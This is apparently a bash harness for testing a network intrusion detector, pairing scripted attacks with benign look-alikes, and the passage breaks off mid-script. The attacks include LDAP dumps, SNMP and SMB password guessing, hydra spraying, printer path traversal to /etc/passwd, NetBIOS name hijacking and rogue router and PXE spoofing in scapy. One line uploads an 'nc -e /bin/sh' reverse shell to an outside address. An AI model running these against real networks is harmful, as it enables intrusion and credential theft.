	spawn nas /usr/sbin/slapd -d 0 -f "$tmp/ldap/slapd.conf" -h "ldap://$nas/"
	local i; for i in $(seq 1 30); do inns pc ldapsearch -x -H "ldap://$nas" -s base -b '' >/dev/null 2>&1 && break; sleep 0.3; done
}
killns() { local h=$1 pat=$2 p; for p in $(ip netns pids "$P-$h"); do grep -qaE "$pat" /proc/$p/cmdline 2>/dev/null && kill "$p"; done; sleep 0.3; }
scn_ldap_anon_dump_ldapsearch() {
	slapd_up
	inns evil ldapsearch -x -H "ldap://$nas" -s base -b '' namingContexts | grep -c dn
	inns evil ldapsearch -x -H "ldap://$nas" -b dc=lab,dc=lan '(objectClass=*)' | grep -c '^dn'
	killns nas slapd
}
scn_ldap_anon_dump_nmap() {
	slapd_up
	inns evil timeout 60 nmap -n -Pn -p389 --script ldap-rootdse,ldap-search "$nas" 2>&1 | tail -3
	killns nas slapd
}
# Benign: rootDSE reads (every LDAP client's first step), a phone's or
# printer's anonymous address-book lookup (a few entries, cn and mail), and
# an authenticated sync is another finding (a simple bind in clear).
scn_benign_ldap_anon_rootdse_lookup() {
	slapd_up
	local i; for i in 1 2 3; do inns pc ldapsearch -x -H "ldap://$nas" -s base -b '' namingContexts supportedLDAPVersion | grep -c dn; done
	for n in 'user1*' 'user7' 'User 2*'; do inns pc2 ldapsearch -x -H "ldap://$nas" -b ou=people,dc=lab,dc=lan "(|(uid=$n)(cn=$n))" cn mail | grep -c '^dn'; done
	killns nas slapd
}
anonftp_up() {
	mkdir -p "$tmp/anon/pub" /var/run/vsftpd/empty; chmod 555 "$tmp/anon"; chmod 777 "$tmp/anon/pub"; echo readme >"$tmp/anon/README"
	printf 'listen=YES\nlisten_address=%s\nanonymous_enable=YES\nanon_root=%s/anon\nwrite_enable=YES\nanon_upload_enable=%s\nanon_mkdir_write_enable=%s\nlocal_enable=NO\nbackground=NO\nsecure_chroot_dir=/var/run/vsftpd/empty\nno_anon_password=YES\n' "$nas" "$tmp" "$1" "$1" >"$tmp/anonftp.conf"
	spawn nas /usr/sbin/vsftpd "$tmp/anonftp.conf"; sleep 1
}
scn_ftp_anon_upload_lftp() {
	anonftp_up YES
	printf '#!/bin/sh\nnc -e /bin/sh 203.0.113.7 4444\n' >"$tmp/shell.sh"
	inns evil timeout 30 lftp -u anonymous,guest@ -e "set ftp:passive-mode on; ls; cd pub; put $tmp/shell.sh -o update.sh; mkdir tools; ls; bye" "ftp://$nas" 2>&1 | tail -3
	killns nas vsftpd
}
scn_benign_ftp_anon_download_lftp() {
	anonftp_up NO
	inns pc timeout 30 lftp -u anonymous,guest@ -e "set ftp:passive-mode on; ls; get README -o $tmp/readme.got; cd pub; ls; bye" "ftp://$nas" 2>&1 | tail -3
	killns nas vsftpd
}
snmpv3_up() {
	mkdir -p "$tmp/snmpv3"
	printf 'agentAddress udp:%s:161\ncreateUser monitor SHA "m0nit0rAuth" AES "m0nit0rPriv"\nrouser monitor priv\n' "$nas" >"$tmp/snmpv3.conf"
	spawn nas env SNMP_PERSISTENT_DIR="$tmp/snmpv3" snmpd -f -Lo -C -c "$tmp/snmpv3.conf" -p "$tmp/snmpv3/pid"; sleep 1.5
}
scn_snmpv3_user_enum_snmpget() {
	snmpv3_up
	local u; for u in admin root snmp snmpuser nagios zabbix cisco public private manager operator user test guest backup network netadmin prtg librenms observium solarwinds opmanager readonly readwrite v3user authuser privuser initial templateMD5 templateSHA; do
		inns evil snmpget -v3 -l noAuthNoPriv -u $u -r 0 -t 1 "$nas" 1.3.6.1.2.1.1.1.0 2>&1 | head -1
	done
	killns nas snmpd
}
scn_snmpv3_password_guess_snmpget() {
	snmpv3_up
	local w; for w in password123 admin1234 monitor123 public123 private123 snmpv3pass secret123 changeme1 letmein123 welcome123 qwerty1234 p4ssw0rd1 Passw0rd! monitoring zabbix123 nagios123 cisco1234 default12 snmpadmin 12345678; do
		inns evil snmpget -v3 -l authNoPriv -u monitor -a SHA -A "$w" -r 0 -t 1 "$nas" 1.3.6.1.2.1.1.1.0 2>&1 | head -1
	done
	killns nas snmpd
}
# Benign: a monitoring server's SNMPv3 polls, each snmpget discovering the
# engine ID first (a Report of usmStatsUnknownEngineIDs), every 3 s.
scn_benign_snmpv3_polls_snmpget() {
	snmpv3_up
	local i; for i in $(seq 1 12); do
		inns pc snmpget -v3 -l authPriv -u monitor -a SHA -A m0nit0rAuth -x AES -X m0nit0rPriv -r 0 -t 1 "$nas" 1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.1.5.0 2>&1 | head -1
		sleep 2
	done
	inns pc snmpwalk -v3 -l authPriv -u monitor -a SHA -A m0nit0rAuth -x AES -X m0nit0rPriv "$nas" 1.3.6.1.2.1.2.2.1.2 | wc -l
	killns nas snmpd
}
pjl_printer_up() {
	cat >"$tmp/pjlprn.py" <<'PY'
import socketserver
class H(socketserver.StreamRequestHandler):
    def handle(self):
        for l in self.rfile:
            u = l.strip().upper().lstrip(b"\x1b%-12345X")
            if u.startswith(b"@PJL INFO ID"): self.wfile.write(b"@PJL INFO ID\r\n\"HP LaserJet M402dn\"\r\n\x0c")
            elif u.startswith(b"@PJL FSDIRLIST"): self.wfile.write(l.strip() + b"\r\n. TYPE=DIR\r\n.. TYPE=DIR\r\nPJL TYPE=DIR\r\nwebServer TYPE=DIR\r\n\x0c")
            elif u.startswith(b"@PJL FSUPLOAD"): self.wfile.write(l.strip() + b"\r\nroot:x:0:0:root:/root:/bin/sh\r\n\x0c")
            elif u.startswith(b"@PJL INFO") or u.startswith(b"@PJL USTATUS"): self.wfile.write(l.strip() + b"\r\nCODE=10001\r\nDISPLAY=\"Ready\"\r\nONLINE=TRUE\r\n\x0c")
class S(socketserver.ThreadingTCPServer): allow_reuse_address = True
S(("", 9100), H).serve_forever()
PY
	spawn nas "$py" "$tmp/pjlprn.py"; sleep 1
}
scn_pjl_filesystem_abuse_ncat() {
	pjl_printer_up
	local c; for c in '@PJL INFO ID' '@PJL INFO STATUS' '@PJL INFO VARIABLES' '@PJL FSDIRLIST NAME="0:\" ENTRY=1 COUNT=65535' '@PJL FSUPLOAD NAME="0:\..\..\..\etc\passwd" OFFSET=0 SIZE=2048' '@PJL FSDOWNLOAD FORMAT:BINARY SIZE=19 NAME="0:\webServer\home\hostmanifest"' '@PJL RDYMSG DISPLAY="HACKED"' '@PJL DEFAULT PASSWORD=0' '@PJL DMCMD ASCIIHEX="040006020501010301040106"'; do
		printf '\033%%-12345X%s\r\n\033%%-12345X\r\n' "$c" | inns evil timeout 3 ncat "$nas" 9100 | head -2
	done
	killns nas pjlprn
}
scn_pjl_settings_lock_ncat() {
	pjl_printer_up
	local c; for c in '@PJL INFO ID' '@PJL DEFAULT PASSWORD=31337' '@PJL DEFAULT DISKLOCK=ON' '@PJL DEFAULT CPLOCK=ON'; do
		printf '\033%%-12345X%s\r\n\033%%-12345X\r\n' "$c" | inns evil timeout 3 ncat "$nas" 9100 | head -2
	done
	killns nas pjlprn
}
# Benign: print jobs wrapped in the PJL a driver writes (JOB, SET COPIES,
# DUPLEX, RESOLUTION, ENTER LANGUAGE, EOJ) from two PCs, and a print
# server's status polls (INFO ID, INFO STATUS, USTATUS).
scn_benign_pjl_print_jobs_ncat() {
	pjl_printer_up
	local i h; for i in 1 2 3 4 5 6; do
		h=pc; [ $((i % 2)) = 0 ] && h=pc2
		{ printf '\033%%-12345X@PJL JOB NAME="Report %d.docx" DISPLAY="alice %d"\r\n@PJL SET USERNAME="alice"\r\n@PJL SET COPIES=%d\r\n@PJL SET DUPLEX=ON\r\n@PJL SET RESOLUTION=600\r\n@PJL RDYMSG DISPLAY="alice"\r\n@PJL ENTER LANGUAGE=PCL\r\n' $i $i $i
		  printf '\033E\033&l26A\033*t600R'; head -c 20000 /dev/urandom | base64; printf '\033E\033%%-12345X@PJL EOJ NAME="Report %d.docx"\r\n\033%%-12345X' $i; } | inns $h timeout 5 ncat --send-only "$nas" 9100
		printf '\033%%-12345X@PJL INFO ID\r\n@PJL INFO STATUS\r\n@PJL USTATUS DEVICE=ON\r\n\033%%-12345X' | inns pc2 timeout 3 ncat "$nas" 9100 | head -2
		sleep 0.5
	done
	killns nas pjlprn
}
# Session 41 (review 42 P1): password spraying, one client against many
# servers, a few failures each. smbd_on HOST IP: Samba's smbd on HOST alone
# (SMB2 and later, the share "data", the user root with Backup-2026), its
# state under $tmp/smb-HOST.
smbd_on() {
	local h=$1 ip=$2 d=$tmp/smb-$1
	mkdir -p "$d"/{lock,state,cache,private,pid,ncalrpc,binddns} "$tmp/ftproot"
	sed -e "s|@IP@|$ip|g" -e "s|@D@|$d|g" -e "s|@SHARE@|$tmp/ftproot|g" >"$d/smb.conf" <<'EOF'
[global]
workgroup = LAB
server role = standalone server
interfaces = @IP@/24
bind interfaces only = yes
smb ports = 445
disable netbios = yes
server min protocol = SMB2
lock directory = @D@/lock
state directory = @D@/state
cache directory = @D@/cache
private dir = @D@/private
pid directory = @D@/pid
ncalrpc dir = @D@/ncalrpc
binddns dir = @D@/binddns
log file = @D@/log
passdb backend = tdbsam
load printers = no
printcap name = /dev/null
disable spoolss = yes
map to guest = never
[data]
path = @SHARE@
read only = yes
EOF
	printf 'Backup-2026\nBackup-2026\n' | inns "$h" smbpasswd -c "$d/smb.conf" -s -a root >/dev/null
	spawn "$h" smbd -F -s "$d/smb.conf"
}
smbd_off() { local h p; for h in "$@"; do for p in $(ip netns pids "$P-$h"); do grep -qa smbd "/proc/$p/cmdline" 2>/dev/null && kill "$p"; done; done; sleep 0.5; }
spray_hosts="nas:30 pc2:11 h100:100 h101:101 h102:102"
spray_up() {
	local x i
	for x in $spray_hosts; do smbd_on "${x%:*}" "$NET.${x#*:}"; done
	for x in $spray_hosts; do for i in $(seq 50); do inns "${x%:*}" ss -Hltn '( sport = :445 )' | grep -q . && break; sleep 0.2; done; done
}
spray_down() { local x; for x in $spray_hosts; do smbd_off "${x%:*}"; done; }
# netexec's `smb <hosts> -u users -p passwords` shape with smbclient: 4
# accounts x 2 passwords against 5 Samba hosts, 40 STATUS_LOGON_FAILUREs,
# 8 a host (below one host's 20).
scn_smb_spray_smbclient_5_hosts() {
	spray_up
	local x u pw
	for x in $spray_hosts; do
		for u in administrator backup svc_sql helpdesk; do
			for pw in 'Winter2026!' 'Welcome1'; do
				inns evil timeout 5 smbclient -L "//$NET.${x#*:}" -U "LAB/$u%$pw" -m SMB3 >/dev/null 2>&1 || true
			done
		done
	done
	spray_down
}
# A user whose password changed: the PC's mapped drives on three servers
# retry the stale one twice each at logon, one drive mistyped once more,
# then the new password works on each (7 failures over 3 servers): quiet.
scn_benign_smb_stale_password_mapped_drives() {
	spray_up
	local x i
	for x in nas:30 pc2:11 h100:100; do
		for i in 1 2; do inns pc timeout 5 smbclient "//$NET.${x#*:}/data" -U 'root%Backup-2025' -m SMB3 -c 'ls' >/dev/null 2>&1 || true; done
	done
	inns pc timeout 5 smbclient "//$NET.30/data" -U 'root%Bakcup-2026' -m SMB3 -c 'ls' >/dev/null 2>&1 || true
	for x in nas:30 pc2:11 h100:100; do inns pc timeout 5 smbclient "//$NET.${x#*:}/data" -U 'root%Backup-2026' -m SMB3 -c 'ls' || true; done
	spray_down
}
# hydra -M against three device web UIs (basic.py: HTTP basic auth on port
# 8000, 401 to every wrong login): 8 accounts x 2 passwords each, 16 401s
# a UI, 48 in all.
scn_hydra_http_basic_spray_3_uis() {
	local h p
	for h in nas:30 pc2:11 h100:100; do spawn "${h%:*}" "$py" "$tmp/basic.py" "$NET.${h#*:}"; done
	for h in nas pc2 h100; do for p in $(seq 50); do inns "$h" ss -Hltn '( sport = :8000 )' | grep -q . && break; sleep 0.2; done; done
	printf '%s\n' "$NET.30" "$NET.11" "$NET.100" >"$tmp/spray_hosts"
	printf 'admin\nroot\nuser\nsupport\noperator\nguest\nmanager\nservice\n' >"$tmp/spray_users"
	printf 'Winter2026!\nWelcome1\n' >"$tmp/spray_pw"
	(cd "$tmp" && inns evil timeout 90 hydra -t 2 -s 8000 -L "$tmp/spray_users" -P "$tmp/spray_pw" -M "$tmp/spray_hosts" http-get /) || true
	for h in nas pc2 h100; do for p in $(ip netns pids "$P-$h"); do grep -qa basic.py "/proc/$p/cmdline" 2>/dev/null && kill "$p"; done; done
}
# Review 42 P3: WordPress's XML-RPC login guessed, on pc2 (the NAS's port
# 80 is serve.py's). wp.py is Python's own
# XML-RPC server (xmlrpc.server, system.multicall registered) answering
# wp.getUsersBlogs and wp.getProfile as WordPress does: fault 403
# "Incorrect username or password." unless admin/Tr0ub4dor&3. With "cork"
# its answers leave in one segment (TCP_CORK), as PHP's behind a web server
# do; without, the header and the body in two.
cat >"$tmp/wp.py" <<'EOF'
import socket, sys, xmlrpc.server
def login(u, p):
    if (u, p) != ("admin", "Tr0ub4dor&3"):
        raise xmlrpc.server.Fault(403, "Incorrect username or password.")
def get_users_blogs(u, p):
    login(u, p)
    return [{"isAdmin": True, "url": "http://intranet/", "blogid": "1", "blogName": "Intranet", "xmlrpc": "http://intranet/xmlrpc.php"}]
def get_profile(u, p, *a):
    login(u, p)
    return {"user_id": "1", "username": u}
def get_posts(blog, u, p, *a):
    login(u, p)
    return [{"post_id": str(i), "post_title": "Post %d" % i} for i in range(5)]
class H(xmlrpc.server.SimpleXMLRPCRequestHandler):
    rpc_paths = ("/xmlrpc.php",)
    encode_threshold = None # WordPress answers uncompressed (a web server gzipping text/xml hides the faults)
    def setup(self):
        super().setup()
        if sys.argv[2] == "cork":
            self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_CORK, 1)
    def log_message(self, *a): pass
s = xmlrpc.server.SimpleXMLRPCServer((sys.argv[1], 80), H, logRequests=False, allow_none=True)
s.register_multicall_functions()
s.register_function(get_users_blogs, "wp.getUsersBlogs")
s.register_function(get_profile, "wp.getProfile")
s.register_function(get_posts, "wp.getPosts")
s.serve_forever()
EOF
wp=$NET.11
wp_up() { spawn pc2 "$py" "$tmp/wp.py" "$wp" "$1"; local i; for i in $(seq 50); do inns pc2 ss -Hltn '( sport = :80 )' | grep -q . && break; sleep 0.2; done; }
wp_down() { local p; for p in $(ip netns pids "$P-pc2"); do grep -qa wp.py "/proc/$p/cmdline" 2>/dev/null && kill "$p"; done; sleep 0.3; }
# 40 wp.getUsersBlogs POSTs with curl (WPScan's xmlrpc shape), then one
# system.multicall of 60 guesses from Python's xmlrpc.client.
scn_wp_xmlrpc_guess_curl_multicall() {
	wp_up cork
	local pw
	for pw in $(head -40 "$tmp/pw300"); do
		inns evil curl -s -H 'Content-Type: text/xml' --data "<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param><value><string>admin</string></value></param><param><value><string>$pw</string></value></param></params></methodCall>" "http://$wp/xmlrpc.php" -o /dev/null
	done
	inns evil "$py" -c 'import sys, xmlrpc.client
s = xmlrpc.client.ServerProxy("http://%s/xmlrpc.php" % sys.argv[1])
m = xmlrpc.client.MultiCall(s)
for l in open(sys.argv[2]).read().split()[40:100]:
    m.wp.getUsersBlogs("admin", l)
r, n = m(), 0
for i in range(60):
    try:
        r[i]
    except xmlrpc.client.Fault:
        n += 1
print(n, "faults")' "$wp" "$tmp/pw300"
	wp_down
}
# A blog client (Python's xmlrpc.client, as the WordPress app or a
# publishing tool calls): the user mistypes twice, then logs in, lists the
# blogs, the profile and the posts every few seconds: 2 faults, quiet.
scn_benign_wp_xmlrpc_blog_client() {
	wp_up split
	inns pc "$py" -c 'import sys, time, xmlrpc.client
s = xmlrpc.client.ServerProxy("http://%s/xmlrpc.php" % sys.argv[1])
for pw in ("Tr0ub4dor3", "tr0ub4dor&3", "Tr0ub4dor&3"):
    try:
        print(s.wp.getUsersBlogs("admin", pw))
    except xmlrpc.client.Fault as f:
        print("fault", f.faultCode)
for i in range(6):
    s.wp.getProfile("admin", "Tr0ub4dor&3"); s.wp.getPosts("1", "admin", "Tr0ub4dor&3"); time.sleep(1)' "$wp"
	wp_down
}
# Session 41 fix42d: the false alarm an MSP meets every week, a monitoring
# or management system with a stale credential polling on. Benign: quiet
# (at most a note), not password guessing.
# snmpv3_agents N USER-LINE: net-snmp snmpd with one v3 user on h100..h(99+N).
snmpv3_agents() {
	local i
	printf 'agentAddress udp:161\ncreateUser monitor SHA "m0nit0rAuth" AES "m0nit0rPriv"\nrouser monitor priv\n' >"$tmp/snmpv3-poll.conf"
	for i in $(seq 100 $((99 + $1))); do
		mkdir -p "$tmp/snmpv3-h$i"
		spawn "h$i" env SNMP_PERSISTENT_DIR="$tmp/snmpv3-h$i" snmpd -f -Lo -C -c "$tmp/snmpv3-poll.conf" -p "$tmp/snmpv3-h$i/pid"
	done
	sleep 3
}
snmpv3_agents_down() { local i; for i in $(seq 100 $((99 + $1))); do killns "h$i" snmpd; done; }
# snmpv3_poller USER AUTHPASS: pc2 polls 25 agents every 60 s for five
# polls, four snmpget requests a device (system, interfaces, storage, CPU:
# a Zabbix/PRTG/LibreNMS poll), five devices at a time.
snmpv3_poller() {
	local r i o jobs=() # wait on the polls only: the agents are this shell's children too
	for r in 1 2 3 4 5; do
		for i in $(seq 100 124); do
			inns pc2 bash -c 'for o in 1.3.6.1.2.1.1.3.0 1.3.6.1.2.1.2.2.1.10.1 1.3.6.1.2.1.25.2.3.1.6.1 1.3.6.1.2.1.25.3.3.1.2.1; do
				snmpget -v3 -l authPriv -u "$1" -a SHA -A "$2" -x AES -X m0nit0rPriv -r 0 -t 1 "$3" "$o" 2>&1 | head -1; done' _ "$1" "$2" "$NET.$i" & jobs+=($!)
			if (( (i - 99) % 5 == 0 )); then wait "${jobs[@]}"; jobs=(); fi
		done
		[ $r = 5 ] || sleep 55
	done
}
# The poller's auth password was changed on the devices: every request
# answered by a Report of usmStatsWrongDigests (100 a poll, 4 a device).
scn_benign_snmpv3_poller_stale_password_25_agents() {
	snmpv3_agents 25
	snmpv3_poller monitor 'm0nit0rAuth2025'
	snmpv3_agents_down 25
}
# The poller is configured with a user the devices lack: every request
# answered by a Report of usmStatsUnknownUserNames.
scn_benign_snmpv3_poller_unknown_user_25_agents() {
	snmpv3_agents 25
	snmpv3_poller zabbix 'm0nit0rAuth'
	snmpv3_agents_down 25
}
# An HTTP monitor (pc2) checking 10 device web UIs (basic.py) every 30 s
# with a stale basic-auth password: 10 401s a check, 7 checks.
scn_benign_http_monitor_stale_basic_auth_10_uis() {
	local h r
	for h in $(seq 100 109); do spawn "h$h" "$py" "$tmp/basic.py" "$NET.$h"; done
	for h in $(seq 100 109); do for r in $(seq 50); do inns "h$h" ss -Hltn '( sport = :8000 )' | grep -q . && break; sleep 0.2; done; done
	for r in 1 2 3 4 5 6 7; do
		for h in $(seq 100 109); do inns pc2 curl -s -m 3 -o /dev/null -w '%{http_code} ' -u 'admin:Tr0ub4dor&2' "http://$NET.$h:8000/status" || true; done
		echo
		[ $r = 7 ] || sleep 29
	done
	for h in $(seq 100 109); do killns "h$h" basic.py; done
}
# A backup service account whose password expired on the domain, mapping
# a share on 5 servers every two minutes (three runs): each answered
# STATUS_LOGON_FAILURE.
scn_benign_smb_backup_stale_password_5_servers() {
	spray_up
	local r x
	for r in 1 2 3; do
		for x in $spray_hosts; do inns pc timeout 5 smbclient "//$NET.${x#*:}/data" -U 'LAB/root%Backup-2025' -m SMB3 -c 'ls' 2>&1 | tail -1 || true; done
		[ $r = 3 ] || sleep 115
	done
	spray_down
}
# NetBIOS name service (RFC 1001/1002) on UDP 137 for session 42's det43
# (review 42 P9): nbns.py is a B node's name service with a socket, as nmbd
# and Windows run it: "own NAME IP" registers NAME<00> and <20> by broadcast,
# answers queries for them and refuses others' registrations of them
# (ACT_ERR); "query NAME N" asks for NAME<20> by broadcast N times, 2 s apart;
# "register NAME IP" registers NAME<20> once and gives in when refused.
cat >"$tmp/nbns.py" <<'EOF'
import socket, struct, sys, time
def enc(n, suf):
    raw = n.upper().ljust(15)[:15].encode() + bytes([suf])
    return bytes([32]) + bytes(c for b in raw for c in (0x41 + (b >> 4), 0x41 + (b & 15))) + b"\0"
def rr(name, addr, ttl=300000):
    return name + struct.pack(">HHIH", 0x20, 1, ttl, 6) + b"\0\0" + socket.inet_aton(addr)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("", 137))
bcast = ("10.88.8.255", 137)
mode, name = sys.argv[1], sys.argv[2]
if mode == "own":
    me = sys.argv[3]
    mine = {enc(name, 0), enc(name, 0x20)}
    for i, n in enumerate(sorted(mine)):
        s.sendto(struct.pack(">HHHHHH", 0x100 + i, 0x2910, 1, 0, 0, 1) + n + b"\0\x20\0\1\xc0\x0c" + struct.pack(">HHIH", 0x20, 1, 300000, 6) + b"\0\0" + socket.inet_aton(me), bcast)
    while True:
        b, (ip, port) = s.recvfrom(1500)
        if ip == me or len(b) < 12 + 34:
            continue
        tid, flags = struct.unpack(">HH", b[:4])
        q = b[12:12 + 34]
        if flags & 0x8000 or q not in mine:
            continue
        op = (flags >> 11) & 15
        if op == 0:
            s.sendto(struct.pack(">HHHHHH", tid, 0x8500, 0, 1, 0, 0) + rr(q, me), (ip, port))
        elif op in (5, 8, 9):
            s.sendto(struct.pack(">HHHHHH", tid, 0xAD86, 0, 1, 0, 0) + rr(q, ip, 0), (ip, port))
            print("refused", ip, flush=True)
elif mode == "query":
    s.settimeout(1.5)
    for i in range(int(sys.argv[3])):
        s.sendto(struct.pack(">HHHHHH", 0x4000 + i, 0x0110, 1, 0, 0, 0) + enc(name, 0x20) + b"\0\x20\0\1", bcast)
        end = time.time() + 2
        while time.time() < end:
            try:
                b, (ip, port) = s.recvfrom(1500)
            except socket.timeout:
                break
            if len(b) >= 12 + 34 + 16 and b[2] & 0x80:
                print("query", i, "answered by", ip, "at", socket.inet_ntoa(b[-4:]), flush=True)
        time.sleep(max(0, end - time.time()))
elif mode == "register":
    me = sys.argv[3]
    s.settimeout(0.25)
    for i in range(3): # BCAST_REQ_RETRY_COUNT (RFC 1002 6), 250 ms apart, until refused
        s.sendto(struct.pack(">HHHHHH", 0x700, 0x2910, 1, 0, 0, 1) + enc(name, 0x20) + b"\0\x20\0\1\xc0\x0c" + struct.pack(">HHIH", 0x20, 1, 300000, 6) + b"\0\0" + socket.inet_aton(me), bcast)
        end, refused = time.time() + 0.25, False
        while not refused and time.time() < end:
            try:
                b, (ip, port) = s.recvfrom(1500)
            except socket.timeout:
                break
            if ip != me and b[2] & 0x80 and b[3] & 15:
                print("refused by", ip, "rcode", b[3] & 15, "- giving in", flush=True)
                refused = True
        if refused:
            break
EOF
# nbns_hijack.py (scapy, from evil): Responder's shape for one name. "answer
# NAME SECONDS" answers every broadcast query for NAME<20> with evil's own
# address; "overwrite NAME" registers NAME<20>, is refused by its owner,
# then sends a NAME OVERWRITE DEMAND (RFC 1002 4.2.3: RD clear) anyway.
cat >"$tmp/nbns_hijack.py" <<'EOF'
import struct, sys, time
from scapy.all import *
conf.verb = 0
mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
def enc(n, suf):
    raw = n.upper().ljust(15)[:15].encode() + bytes([suf])
    return bytes([32]) + bytes(c for b in raw for c in (0x41 + (b >> 4), 0x41 + (b & 15))) + b"\0"
mode, name = sys.argv[1], sys.argv[2]
q = enc(name, 0x20)
rr = struct.pack(">HHIH", 0x20, 1, 300000, 6) + b"\0\0" + socket.inet_aton(me)
if mode == "answer":
    def hit(p):
        b = bytes(p[UDP].payload)
        if len(b) >= 46 and not b[2] & 0x80 and (b[2] >> 3) & 15 == 0 and b[12:46] == q and p[IP].src != me:
            sendp(Ether(src=mac, dst=p[Ether].src) / IP(src=me, dst=p[IP].src) / UDP(sport=137, dport=p[UDP].sport) /
                  Raw(b[:2] + struct.pack(">HHHHH", 0x8500, 0, 1, 0, 0) + q + rr), iface="eth0")
    sniff(iface="eth0", filter="udp dst port 137", prn=hit, timeout=float(sys.argv[3]))
else:
    bc = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=me, dst="10.88.8.255") / UDP(sport=137, dport=137)
    sendp(bc / Raw(struct.pack(">HHHHHH", 0x701, 0x2910, 1, 0, 0, 1) + q + b"\0\x20\0\1\xc0\x0c" + rr), iface="eth0")
    time.sleep(2)
    for i in range(3):
        sendp(bc / Raw(struct.pack(">HHHHHH", 0x702 + i, 0x2810, 1, 0, 0, 1) + q + b"\0\x20\0\1\xc0\x0c" + rr), iface="eth0")
        time.sleep(0.25)
EOF
nbns_owner_up() { spawn nas "$py" "$tmp/nbns.py" own FILESRV "$nas"; sleep 1; }
nbns_owner_down() { killns nas nbns.py; }
# The NAS owns FILESRV and answers for it; evil answers the PC's queries for
# FILESRV with its own address too (both answer each).
scn_nbns_hijack_owner_answers_scapy() {
	nbns_owner_up
	spawn evil "$py" "$tmp/nbns_hijack.py" answer FILESRV 20
	sleep 2
	inns pc "$py" "$tmp/nbns.py" query FILESRV 6
	killns evil nbns_hijack.py
	nbns_owner_down
}
# evil registers FILESRV<20>, the NAS refuses, evil overwrites it anyway;
# the PC's queries before and after are answered by the NAS alone.
scn_nbns_overwrite_after_refusal_scapy() {
	nbns_owner_up
	inns pc "$py" "$tmp/nbns.py" query FILESRV 2
	inns evil "$py" "$tmp/nbns_hijack.py" overwrite FILESRV
	inns pc "$py" "$tmp/nbns.py" query FILESRV 2
	nbns_owner_down
}
# Ordinary NetBIOS: the NAS owns FILESRV and answers for it; PC2, set up
# with the same name by mistake, registers it, is refused and gives in
# (RFC 1001 15.2.2.1); the PC keeps asking and only the NAS answers.
scn_benign_nbns_duplicate_name_refused() {
	nbns_owner_up
	inns pc "$py" "$tmp/nbns.py" query FILESRV 2
	inns pc2 "$py" "$tmp/nbns.py" register FILESRV "$NET.11"
	inns pc "$py" "$tmp/nbns.py" query FILESRV 4
	nbns_owner_down
}
# ICMP router discovery (RFC 1256) for det43 (review 42 P10), scapy: evil
# advertises itself as a default router (type 9 to 224.0.0.1, preference
# 100, lifetime 1800 s) every 3 s, irdpresponder's shape, while the PC
# solicits routers (type 10 to 224.0.0.2).
cat >"$tmp/irdp.py" <<'EOF'
import socket, struct, sys, time
from scapy.all import *
conf.verb = 0
mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
args = sys.argv[1:]
for i in range(4):
    if args[0] == "adv":
        # RFC 1256 3.1: type 9, code 0, checksum, number of addresses,
        # entry size 2 (words), lifetime 1800 s; then address, preference.
        body = struct.pack(">BBHBBH", 9, 0, 0, len(args) - 1, 2, 1800) + b"".join(socket.inet_aton(r) + struct.pack(">i", 100) for r in args[1:])
        body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
        sendp(Ether(src=mac, dst="01:00:5e:00:00:01") / IP(src=me, dst="224.0.0.1", ttl=1, proto=1) / Raw(body), iface="eth0")
    else:
        sendp(Ether(src=mac, dst="01:00:5e:00:00:02") / IP(src=me, dst="224.0.0.2", ttl=1) / ICMP(type=10, code=0), iface="eth0")
    time.sleep(3)
EOF
irdp() { local h=$1; shift; inns "$h" "$py" "$tmp/irdp.py" "$@"; } # irdp HOST adv ROUTER... | solicit
scn_irdp_rogue_router_scapy() {
	irdp pc solicit & local sol=$!
	irdp evil adv "$NET.66"
	wait "$sol"
}
# Ordinary router discovery: the PC solicits, the gateway answers naming
# itself (a router with IRDP on).
scn_benign_irdp_gateway_answers_solicitations() {
	irdp pc solicit & local sol=$!
	irdp gw adv "$NET.1"
	wait "$sol"
}
# PXE boot hijack for det43 (brief item 3): pxeclient.py (scapy) is a PXE
# client's DISCOVER (option 60 PXEClient:Arch:00000:UNDI:002001, 93, 94,
# 97) from the namespace's MAC, then 4 s of listening for OFFERs;
# pxerogue.py (scapy) answers each PXE DISCOVER as a proxyDHCP naming
# itself as boot server with its own boot file (yiaddr 0, siaddr, file,
# option 60 PXEClient, option 43 sub-option 8).
cat >"$tmp/pxeclient.py" <<'EOF'
import sys, os
from scapy.all import *
conf.verb = 0
mac = get_if_hwaddr("eth0")
xid = int.from_bytes(os.urandom(4), "big")
d = Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src="0.0.0.0", dst="255.255.255.255") / UDP(sport=68, dport=67) / \
    BOOTP(chaddr=mac2str(mac), xid=xid, flags=0x8000) / DHCP(options=[("message-type", "discover"),
    ("vendor_class_id", b"PXEClient:Arch:00000:UNDI:002001"), (93, b"\x00\x00"), (94, b"\x01\x02\x01"),
    (97, b"\x00" + os.urandom(16)), ("param_req_list", [1, 3, 6, 43, 60, 66, 67]), "end"])
for p in sniff(iface="eth0", filter="udp dst port 68", timeout=4, started_callback=lambda: sendp(d, iface="eth0")):
    if BOOTP in p and p[BOOTP].xid == xid:
        print("offer from", p[IP].src, "yiaddr", p[BOOTP].yiaddr, "siaddr", p[BOOTP].siaddr, "file", p[BOOTP].file.rstrip(b"\0"), flush=True)
EOF
cat >"$tmp/pxerogue.py" <<'EOF'
import sys
from scapy.all import *
conf.verb = 0
mac, me = get_if_hwaddr("eth0"), get_if_addr("eth0")
def hit(p):
    if DHCP not in p or p[BOOTP].op != 1:
        return
    o = dict(x for x in p[DHCP].options if isinstance(x, tuple))
    if o.get("message-type") != 1 or not bytes(o.get("vendor_class_id", b"")).startswith(b"PXEClient"):
        return
    sub = b"\x06\x01\x08" + b"\x08\x07\x80\x00\x01" + socket.inet_aton(me) + b"\xff"
    sendp(Ether(src=mac, dst="ff:ff:ff:ff:ff:ff") / IP(src=me, dst="255.255.255.255") / UDP(sport=67, dport=68) /
          BOOTP(op=2, xid=p[BOOTP].xid, yiaddr="0.0.0.0", siaddr=me, chaddr=p[BOOTP].chaddr, flags=0x8000, file=b"boot/evil.efi") /
